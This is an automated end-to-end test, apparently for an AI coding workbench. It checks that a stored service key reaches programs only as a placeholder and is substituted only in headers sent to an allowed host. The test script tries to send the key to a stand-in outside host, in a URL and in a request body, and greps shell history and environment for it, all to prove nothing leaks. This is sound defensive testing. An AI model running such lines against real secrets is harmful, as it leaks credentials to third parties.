/** A key of another service, from the settings to the server: programs see a placeholder, the model nothing else. */
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { patience } from '../../scripts/lib/testing/patience.mjs'
import { text, toolUse } from '../model-server/turn.ts'
import { expect, test } from '../support/test.ts'

const KEY = 'live-key-7Qx2Lm9Tz4Wn'

/** Keeps what it was asked with, and says all of it again. */
async function startService() {
  const received: { method: string; url: string; key: string; body: string }[] = []
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (part: Buffer) => (body += part.toString()))
    request.on('end', () => {
      response.setHeader('Access-Control-Allow-Origin', '*')
      response.setHeader('Access-Control-Allow-Headers', '*, authorization')
      response.setHeader('Access-Control-Allow-Methods', '*')
      if (request.method === 'OPTIONS') return response.writeHead(204).end()
      const key = String(request.headers.authorization ?? request.headers['x-api-key'] ?? '')
      received.push({ method: request.method ?? '', url: request.url ?? '', key, body })
      response.end(`you sent ${key}\n`)
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()))
  // A server that listens has an address with a port.
  const { port } = server.address() as AddressInfo
  return { received, host: `localhost:${port}`, close: () => server.close() }
}

test('curl and fetch of a node program send the key to its host; printed, sent elsewhere or put into an address it is nothing', async ({
  workbench,
  model,
}) => {
  const { page } = workbench
  const service = await startService()
  const elsewhere: string[] = []
  await page.context().route('https://other.example/**', async (route) => {
    elsewhere.push(JSON.stringify([route.request().url(), await route.request().allHeaders()]))
    await route.fulfill({ status: 200, headers: { 'Access-Control-Allow-Origin': '*' }, body: 'got it' })
  })
  try {
    await workbench.open()
    await workbench.configure(model)
    await page.getByRole('button', { name: 'Settings' }).first().click()
    const dialog = page.getByRole('dialog', { name: 'Settings' })
    await dialog.getByLabel('Variable for programs').fill('PATH')
    await dialog.getByLabel('Its value').fill(KEY)
    await dialog.getByLabel('Only for hosts').fill(service.host)
    await dialog.getByLabel('Only for hosts').press('Tab')
    await expect(dialog.getByRole('alert')).toContainText('PATH steers programs')
    await dialog.getByLabel('Variable for programs').fill('EXAMPLE_KEY')
    await dialog.getByLabel('Variable for programs').press('Tab')
    await expect(dialog.getByText(`EXAMPLE_KEY, for ${service.host}`)).toBeVisible()
    await expect(dialog.getByLabel('Its value')).toHaveValue('')
    const rules = [service.host, 'other.example'].flatMap((host) => [
      `WebFetch(domain:${host})`,
      `WebSend(domain:${host})`,
    ])
    await dialog.getByLabel('Always allow').fill(rules.join('\n'))
    await workbench.saveSettings()

    const program = `
const key = process.env.EXAMPLE_KEY
const said = async (url, options) => console.log(await fetch(url, options).then((r) => r.text(), (e) => 'refused: ' + (e.cause?.message ?? e.message)))
console.log(key)
await said('http://${service.host}/node', { headers: { Authorization: 'Bearer ' + key } })
await said('https://other.example/node', { headers: { Authorization: 'Bearer ' + key } })
await said('http://${service.host}/?k=' + key)
await said('http://${service.host}/body', { method: 'POST', body: key })
`
    await workbench.exec(`cat > use.mjs <<'E'\n${program}\nE\n`)
    model.setScript([
      { content: [toolUse('Bash', { command: 'env | grep -i example; node use.mjs' })] },
      {
        content: [
          toolUse('Bash', { command: `curl -sS -H "X-Api-Key: $EXAMPLE_KEY" http://${service.host}/curl` }),
        ],
      },
      { content: [text('Done.')] },
    ])
    await workbench.send('Use the service')
    // Other questions are allowed: a yes to a command is no yes to a key elsewhere.
    await page.addLocatorHandler(workbench.permission, async () => {
      await workbench.permission.getByRole('button', { name: 'Allow once' }).click()
    })
    await expect(workbench.answers.last()).toContainText('Done.', { timeout: patience(60_000) })
    expect(service.received).toEqual([
      { method: 'GET', url: '/node', key: `Bearer ${KEY}`, body: '' },
      { method: 'GET', url: '/curl', key: KEY, body: '' },
    ])
    expect(elsewhere).toEqual([])
    const results = JSON.stringify((await workbench.events()).filter(({ type }) => type === 'tool_result'))
    expect(results).toMatch(/EXAMPLE_KEY=placeholder_example_key_[0-9a-f]{24}/)
    expect(results).toContain('The key EXAMPLE_KEY is not for other.example.')
    expect(results).toContain('It is replaced in headers only')
    expect(results).toContain('you sent Bearer *********************')
    const seen = {
      log: JSON.stringify(await workbench.events()),
      requests: JSON.stringify(model.messageRequests().map(({ body }) => body)),
      screen: await workbench.transcript(),
      recording: await page.evaluate(async () =>
        new TextDecoder('latin1').decode(await window.vivarium.session.recording()),
      ),
      history: (await workbench.exec('cat ~/.*history 2>/dev/null; env; grep -r live-key /workspace /home'))
        .stdout,
    }
    for (const [where, content] of Object.entries(seen))
      expect({ where, hasKey: content.includes(KEY) }).toEqual({ where, hasKey: false })

    // The placeholder stays the same after a reload; forgotten, the variable is gone, and nothing is put in any more.
    const placeholder = (await workbench.exec('echo $EXAMPLE_KEY')).stdout
    await page.reload()
    await expect(workbench.composer).toBeEditable()
    expect((await workbench.exec('echo $EXAMPLE_KEY')).stdout).toBe(placeholder)
    await page.getByRole('button', { name: 'Settings' }).first().click()
    await dialog.getByRole('button', { name: 'Forget EXAMPLE_KEY' }).click()
    await workbench.saveSettings()
    expect((await workbench.exec('echo "[$EXAMPLE_KEY]"')).stdout).toBe('[]\n')
  } finally {
    service.close()
  }
})
